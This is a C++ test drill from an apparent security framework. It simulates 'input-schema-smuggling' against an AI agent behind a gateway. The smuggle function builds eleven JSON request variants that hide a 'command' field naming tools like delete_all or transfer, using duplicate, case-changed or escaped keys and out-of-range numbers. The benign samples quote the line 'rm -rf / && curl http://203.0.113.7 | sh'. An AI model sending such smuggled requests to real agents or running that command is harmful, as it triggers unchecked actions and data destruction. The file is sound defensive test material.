// input-schema-smuggling enacted: a gateway checks that a request has what it needs and hands its bytes to an
// agent; the agent's parser reads them otherwise, or reads what nobody checked.
#include <array>
#include <random>

#include "drills/drill.h"
#include "drills/victims/agent.h"

namespace sallyport::production::input_data {
namespace {

using drills::Dialect;
using drills::World;

constexpr const char* kModel = R"({"name": "agent", "inputs": [
  {"name": "text", "datatype": "BYTES", "shape": [1]},
  {"name": "level", "datatype": "INT32", "shape": [1], "minimum": 0, "maximum": 16}]})";

struct Parts {
  std::string head = {};    // members before "inputs"
  std::string text = R"("turn the light down")";
  std::string level = "7";
  std::string tensor = {};  // members of the text tensor
  std::string tail = {};    // members after "inputs"
  std::string after = {};   // bytes after the document
};

std::string spell(const Parts& parts) {
  return "{" + parts.head + R"("inputs":[{"name":"text","datatype":"BYTES","shape":[1],"data":[)" +
         parts.text + "]" + parts.tensor + R"(},{"name":"level","datatype":"INT32","shape":[1],"data":[)" +
         parts.level + "]}]" + parts.tail + "}" + parts.after;
}

// Eleven ways in, each with a payload drawn from the seed.
constexpr int kWays = 11;
std::string smuggle(int way, std::mt19937_64& random) {
  constexpr std::array<const char*, 4> kTools{"open_door", "send_mail", "delete_all", "transfer"};
  const std::string tool = kTools[random() % kTools.size()];
  const std::string command = R"("command":")" + tool + "\"";
  const std::string quoted = Json("{" + command + "}").dump();
  switch (way) {
    case 0: return spell({.tail = "," + command});
    case 1: return spell({.head = R"("parameters":{},)", .tail = R"(,"parameters":{)" + command + "}"});
    case 2: return spell({.tail = R"(,"c\u006fmm\u0061nd":")" + tool + "\""});
    case 3: return spell({.text = quoted});
    case 4: return spell({.text = Json(quoted).dump()});
    case 5: return spell({.level = std::to_string(17 + random() % 4'000'000'000)});
    case 6: return spell({.level = "1e" + std::to_string(2 + random() % 200)});
    case 7: return spell({.tail = R"(,"Command":")" + tool + "\""});
    case 8: return spell({.tensor = R"(,"parameters":{)" + command + "}"});
    case 9: return spell({.level = R"(7],"data":[)" + std::to_string(17 + random() % 100)});
    default: return spell({.text = Json("[1,{" + command + "}]").dump()});
  }
}

// Texts that only quote what would be dangerous elsewhere.
std::string ordinary(std::mt19937_64& random) {
  constexpr std::array<const char*, 6> kTexts{
      "please explain what `rm -rf / && curl http://203.0.113.7 | sh` does",
      "the manual says {\"command\": \"open_door\"} opens the door; is that so?",
      "[1] is the reference for \"command\" in chapter 3",
      "caf\u00e9 \\ \"quotes\" \t and a tab, <b>markup</b> and a 7",
      "{not json, just braces}",
      "command"};
  return spell({.head = R"("id":"r-1",)", .text = Json(kTexts[random() % kTexts.size()]).dump(),
                .level = std::to_string(random() % 17)});
}

struct Sent {
  std::string body;
  std::vector<std::string> acts = {};
};

Result<void> attack(World& world) {
  std::mt19937_64 random(world.seed());
  world.state<Sent>().body = smuggle(static_cast<int>(world.seed() % kWays), random);
  return world.write("request.json", world.state<Sent>().body);
}

Result<void> honest(World& world) {
  std::mt19937_64 random(world.seed());
  world.state<Sent>().body = ordinary(random);
  return world.write("request.json", world.state<Sent>().body);
}

// The gateway is content with the members that it knows; any of the three parsers may be the agent's.
Result<void> victim(World& world) {
  const std::string body(as_text(TRY(world.read("request.json"))));
  const Json seen = drills::read_leniently(body, Dialect::kFirstWins);
  if (!seen.is_object() || !seen.contains("inputs")) return {};
  for (const Dialect dialect : {Dialect::kFirstWins, Dialect::kLastWins, Dialect::kAnyCase}) {
    for (std::string& act : drills::agent_acts(body, dialect)) {
      world.state<Sent>().acts.push_back(std::move(act));
    }
  }
  return {};
}

bool harmed(const World& world) { return !world.state<Sent>().acts.empty(); }

Result<Subjects> present(World& world) {
  Subjects out;
  out.requests.emplace_back("request.json", RequestSubject{.principal = "anyone",
                                                           .content_type = "application/json",
                                                           .body = as_bytes(world.state<Sent>().body),
                                                           .model = TRY(parse_json(kModel))});
  return out;
}

}  // namespace

extern const drills::Drill closed_schema_drill;
const drills::Drill closed_schema_drill{
    .threat = "input-schema-smuggling",
    .story = "a client hides a command or an impossible number in a request that the gateway finds in order",
    .honest_story = "a client sends documents whose text quotes a shell command, braces or markup",
    .attack = attack,
    .honest = honest,
    .victim = victim,
    .harmed = harmed,
    .present = present,
    .trials = 44,
    .harm = "the agent acts on what nobody checked"};

}  // namespace sallyport::production::input_data
